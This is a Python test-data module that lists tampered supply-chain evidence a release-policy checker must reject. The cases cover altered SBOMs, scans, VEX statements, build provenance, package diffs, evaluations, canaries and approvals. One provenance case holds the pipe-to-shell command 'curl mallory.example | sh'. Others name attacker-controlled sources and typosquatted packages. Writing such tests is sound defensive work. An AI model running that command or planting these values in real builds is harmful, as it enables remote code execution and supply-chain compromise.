"""Contents that their right signers might sign, and that must not pass."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from typing import Any

from tests.unit.release.policy.evidence_set import (
    AIOHTTP,
    IMAGE,
    NOW,
    OPENSSL,
    OTHER,
    Edit,
    Piece,
    ago,
    component,
    iso,
    vulnerability,
    with_member,
    with_predicate,
)


def check(name: str, value: float, threshold: float, at: str, **members: Any) -> dict[str, Any]:
    made = {"name": name, "value": value, "threshold": threshold, "at": at, "passed": True, "num_samples": 64}
    return {**made, **members}


def vex(**members: Any) -> Edit:
    def edit(piece: Piece) -> Piece:
        [said] = piece.predicate["statements"]
        statement = {name: value for name, value in {**said, **members}.items() if value is not None}
        return replace(piece, predicate={**piece.predicate, "statements": [statement]})

    return edit


DEPENDENCIES = "buildDefinition/resolvedDependencies"
PARAMETERS = "buildDefinition/externalParameters"

SPOILED: dict[str, dict[str, Edit]] = {
    "sbom": {
        "no packages": with_predicate(components=[]),
        "too few packages": with_member("components/1/purl", ""),
        "no Debian packages": with_member("components/1", component("pkg:pypi/x@1")),
        "no version": with_member("components/1/version", ""),
        "incomplete by its own words": with_member("compositions/0/aggregate", "incomplete"),
        "a reference twice": with_member("components/1/bom-ref", AIOHTTP),
        "of another form": with_predicate(bomFormat="SPDX"),
        "of an unknown version": with_predicate(specVersion="9.9"),
        "an empty object": lambda piece: replace(piece, predicate={}),
        "a list": lambda piece: replace(piece, predicate=[]),
    },
    "scan": {
        "a high vulnerability": with_member("result/vulnerabilities/0/severity", "high"),
        "a critical vulnerability": with_member("result/vulnerabilities/0/severity", "critical"),
        "an unknown severity": with_member("result/vulnerabilities/0/severity", "unknown"),
        "an undetermined version": with_member("result/vulnerabilities/0/is_undetermined", True),
        "a severity that does not exist": with_member("result/vulnerabilities/0/severity", "negligible"),
        "one more": with_member("result/vulnerabilities/0", vulnerability()),
        "the exempted one in another package": with_member("result/vulnerabilities/1/package", AIOHTTP),
        "the exempted one in another version": with_member(
            "result/vulnerabilities/1/package", OPENSSL.replace("3.0.15-1", "3.0.14-1")
        ),
        "zero components": with_member("result/num_components", 0),
        "negative components": with_member("result/num_components", -3),
        "fewer components": with_member("result/num_components", 2),
        "of another SBOM": with_member("result/sbom_digest", OTHER),
        "old": with_predicate(scanStartedOn=ago(hours=31), scanFinishedOn=ago(hours=30)),
        "from the future": with_predicate(scanFinishedOn=iso(NOW + timedelta(hours=1))),
        "ended before it began": with_predicate(scanStartedOn=ago(hours=1)),
        "a time without an offset": with_predicate(scanFinishedOn="2026-11-26T10:00:00"),
        "an old database": with_member("scanner/database_updated_at", ago(hours=50)),
        "a database from the future": with_member("scanner/database_updated_at", iso(NOW + timedelta(hours=1))),
        "a database of no age": with_member("scanner/database_updated_at", None),
        "an unknown member": with_predicate(ignore=["PYSEC-2026-1"]),
    },
    "vex": {
        "affected": vex(status="affected", action_statement="upgrade"),
        "under investigation": vex(status="under_investigation"),
        "no justification": vex(justification=None),
        "a justification that does not exist": vex(justification="trust me"),
        "expired": with_predicate(timestamp=ago(days=31)),
        "from the future": with_predicate(timestamp=iso(NOW + timedelta(days=1))),
        "of another vulnerability": vex(vulnerability={"name": "CVE-2026-8"}),
        "of another image": vex(products=[{"@id": f"pkg:oci/chat@{OTHER}"}]),
        "of another package": vex(products=[{"@id": "pkg:deb/debian/curl@8"}]),
        "of another version": vex(products=[{"@id": "pkg:deb/debian/openssl@3.0.16-1"}]),
        "of every version": vex(products=[{"@id": "pkg:deb/debian/openssl"}]),
        "of no product": vex(products=[]),
        "with an expiry of its own": with_predicate(expires="2099-01-01T00:00:00Z"),
        "of another standard": with_predicate(**{"@context": "https://example.org"}),
    },
    "provenance": {
        "another builder": with_member("runDetails/builder/id", "https://builder.mallory.example"),
        "another build type": with_member("buildDefinition/buildType", "urn:other"),
        "another source": with_member(f"{DEPENDENCIES}/0/uri", "git+https://github.com/mallory/chat@refs/tags/v1"),
        "a source that begins alike": with_member(f"{DEPENDENCIES}/0/uri", "git+https://github.com/team/chat.evil"),
        "a second source": with_member(f"{DEPENDENCIES}/1/uri", "git+https://github.com/mallory/lib"),
        "no source": with_member(DEPENDENCIES, []),
        "no commit": with_member(f"{DEPENDENCIES}/0/digest", {}),
        "a branch as commit": with_member(f"{DEPENDENCIES}/0/digest", {"gitCommit": "main"}),
        "an unknown parameter": with_member(f"{PARAMETERS}/shell", "curl mallory.example | sh"),
        "an unknown empty parameter": with_member(f"{PARAMETERS}/shell", {}),
        "another value": with_member(f"{PARAMETERS}/arguments/VERSION", "latest"),
        "one other value of several": with_member(f"{PARAMETERS}/locks", ["requirements.txt", "evil.txt"]),
        "a name that looks like a path": with_member(f"{PARAMETERS}/arguments.VERSION", "v1"),
        "no parameters": with_member(PARAMETERS, {}),
        "another stage": with_member(f"{PARAMETERS}/target", "debug"),
        "nobody wrote it": with_member(f"{DEPENDENCIES}/0/annotations", {}),
        "an approver wrote it": with_member(f"{DEPENDENCIES}/0/annotations", {"authors": ["ben@team.example"]}),
        "one of several authors approves": with_member(
            f"{DEPENDENCIES}/0/annotations", {"authors": ["dev@team.example", " Chi@Team.Example"]}
        ),
    },
    "diff": {
        "an unreviewed package": with_member("changes/0/package", "pkg:pypi/msgspecc"),
        "one more package": with_predicate(changes=[{"package": "pkg:pypi/evil", "after": "1"}]),
        "another licence": with_member("changes/1/licences_after", ["SSPL-1.0"]),
        "against another image": with_predicate(baseline=OTHER),
        "against nothing": with_predicate(baseline=None),
        "of another SBOM": with_predicate(sbom=OTHER),
        "an unknown member": with_predicate(skip=True),
    },
    "review": {
        "of another diff": with_predicate(diff=OTHER),
        "of nothing": with_predicate(accepted=[]),
        "of another package": with_predicate(accepted=["pkg:pypi/attrs"]),
        "of a version": with_predicate(accepted=["pkg:pypi/msgspec@0.20.0"]),
        "an unknown member": with_predicate(all=True),
    },
    "hygiene": {
        "a secret": with_predicate(
            findings=[{"rule": "secret-in-file", "level": "error", "where": "/app", "message": "a private key"}]
        ),
        "an unknown level": with_member("findings/0/level", "fatal"),
        "secrets were not looked for": with_predicate(checked=["root-user", "set-id"]),
        "nothing was looked for": with_predicate(checked=[]),
        "too large": with_predicate(size_bytes=400_000_001),
        "of no size": with_predicate(size_bytes=0),
        "wasteful": with_predicate(wasted_bytes=20_000_001),
        "of negative waste": with_predicate(wasted_bytes=-1),
        "an unknown member": with_predicate(ignored=["secrets"]),
    },
    "evaluation": {
        "below the threshold": with_member("checks/0", check("answers", 0.7, 0.8, "least")),
        "below, with a threshold of its own": with_member("checks/0", check("answers", 0.7, 0.1, "least")),
        "above, with a threshold of its own": with_member("checks/1", check("perplexity", 99, 100, "most")),
        "turned around": with_member("checks/1", check("perplexity", 11, 1, "least")),
        "failed by its own words": with_member("checks/0/passed", False),
        "too few samples": with_member("checks/0/num_samples", 49),
        "a missing check": with_member("checks/0/name", "vibes"),
        "a check twice": with_member("checks/1", check("answers", 0.9, 0.8, "least")),
        "no checks": with_predicate(checks=[]),
        "another golden set": with_predicate(golden_set=IMAGE),
        "an unknown member": with_predicate(waived=True),
    },
    "canary": {
        "failed": with_predicate(verdict="fail"),
        "inconclusive": with_predicate(verdict="inconclusive"),
        "a failed metric": with_member("metrics/0/verdict", "fail"),
        "a missing metric": with_member("metrics/1/metric", "gpu"),
        "no metrics": with_predicate(metrics=[]),
        "too few samples": with_member("metrics/0/num_new", 3),
        "too short": with_predicate(started_at=ago(minutes=26)),
        "ended before it began": with_predicate(started_at=ago(minutes=20)),
        "too little traffic": with_predicate(share=0.001),
        "more than all traffic": with_predicate(share=20.0),
        "old": with_predicate(started_at=ago(hours=31), ended_at=ago(hours=30)),
        "from the future": with_predicate(ended_at=iso(NOW + timedelta(hours=1))),
        "beside another image": with_predicate(baseline=OTHER),
        "an unknown member": with_predicate(forced=True),
    },
    "approval-ben": {
        "for another environment": with_predicate(environment="staging"),
        "expired": with_predicate(expires_at=ago(seconds=1)),
        "for ever": with_predicate(expires_at="2099-01-01T00:00:00Z"),
        "a time without an offset": with_predicate(expires_at="2026-11-27T12:00:00"),
        "of nothing": with_predicate(evidence=[]),
        "of all but the last": lambda piece: replace(
            piece, predicate={**piece.predicate, "evidence": piece.predicate["evidence"][:-1]}
        ),
        "break-glass instead": with_predicate(is_break_glass=True),
        "by the one who approved already": lambda piece: replace(piece, party="chi"),
        "an unknown member": with_predicate(forced=True),
    },
}
